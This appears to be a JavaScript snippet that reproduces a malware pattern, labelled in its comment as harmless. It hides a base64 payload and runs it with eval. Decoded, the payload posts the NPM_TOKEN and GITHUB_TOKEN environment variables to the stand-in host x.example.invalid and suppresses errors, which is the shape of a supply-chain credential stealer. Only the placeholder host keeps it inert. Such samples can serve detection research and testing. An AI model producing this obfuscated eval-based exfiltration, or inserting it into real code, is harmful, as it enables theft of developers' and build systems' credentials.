// Harmless reproduction: the base64 text, if run, would post env tokens to a reserved .invalid host.
const blob = 'cmVxdWlyZSgnaHR0cHMnKS5yZXF1ZXN0KHtob3N0Oid4LmV4YW1wbGUuaW52YWxpZCcsbWV0aG9kOidQT1NUJ30sKCk9Pnt9KS5vbignZXJyb3InLCgpPT57fSkuZW5kKFN0cmluZyhwcm9jZXNzLmVudi5OUE1fVE9LRU4pKyd8JytTdHJpbmcocHJvY2Vzcy5lbnYuR0lUSFVCX1RPS0VOKSk7';
eval(Buffer.from(blob, 'base64').toString('utf8'));
